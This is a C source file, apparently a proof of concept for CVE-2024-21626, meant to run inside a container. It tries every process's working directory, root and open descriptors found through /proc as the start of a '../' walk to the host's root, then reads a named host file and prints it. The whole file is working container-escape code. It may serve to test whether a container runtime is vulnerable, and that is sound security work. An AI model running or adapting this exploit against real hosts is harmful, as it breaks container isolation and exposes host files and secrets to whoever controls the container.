/* CVE-2024-21626, the container's side: looks through other processes' descriptors and directories for the host.
 *
 *   spy SECONDS SECRET          SECRET: absolute path of a file on the host that no container may read
 *   spy self SECRET             only this process's own descriptors, once
 *
 * Every descriptor and working directory of each process in /proc is tried as the start of a walk up to the host's root
 * and down to SECRET. What it reads it prints as "secret: TEXT"; the first is enough. */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

/* Tries to read the secret from the directory `path` upwards. */
static void try_directory(const char *path, const char *secret) {
        char up[1024] = "", text[128];

        int dir = open(path, O_PATH | O_CLOEXEC);
        if (dir < 0)
                return;
        for (int i = 0; i < 24; i++)
                strcat(up, "../");
        strncat(up, secret + 1, sizeof(up) - strlen(up) - 1);
        const char *const ways[] = { up, secret + 1 };
        for (int i = 0; i < 2; i++) {
                int fd = openat(dir, ways[i], O_RDONLY | O_CLOEXEC);
                if (fd < 0)
                        continue;
                ssize_t n = read(fd, text, sizeof(text) - 1);
                if (n > 0) {
                        printf("secret: %.*s (through %s)\n", (int) n, text, path);
                        exit(0);
                }
                close(fd);
        }
        close(dir);
}

static void try_process(const char *pid, const char *secret) {
        char path[300];

        snprintf(path, sizeof(path), "/proc/%.20s/cwd", pid);
        try_directory(path, secret);
        snprintf(path, sizeof(path), "/proc/%.20s/root", pid);
        try_directory(path, secret);
        snprintf(path, sizeof(path), "/proc/%.20s/fd", pid);
        DIR *fds = opendir(path);
        if (!fds)
                return;
        struct dirent *entry;
        while ((entry = readdir(fds)))
                if (entry->d_name[0] != '.') {
                        snprintf(path, sizeof(path), "/proc/%.20s/fd/%.20s", pid, entry->d_name);
                        try_directory(path, secret);
                }
        closedir(fds);
}

int main(int argc, char **argv) {
        if (argc != 3)
                return 2;
        setvbuf(stdout, NULL, _IOLBF, 0);
        if (strcmp(argv[1], "self") == 0) {
                try_process("self", argv[2]);
                return 0;
        }
        time_t end = time(NULL) + atoi(argv[1]);
        while (time(NULL) < end) {
                DIR *proc = opendir("/proc");
                if (!proc)
                        return 1;
                struct dirent *entry;
                while ((entry = readdir(proc)))
                        if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9')
                                try_process(entry->d_name, argv[2]);
                closedir(proc);
        }
        return 0;
}
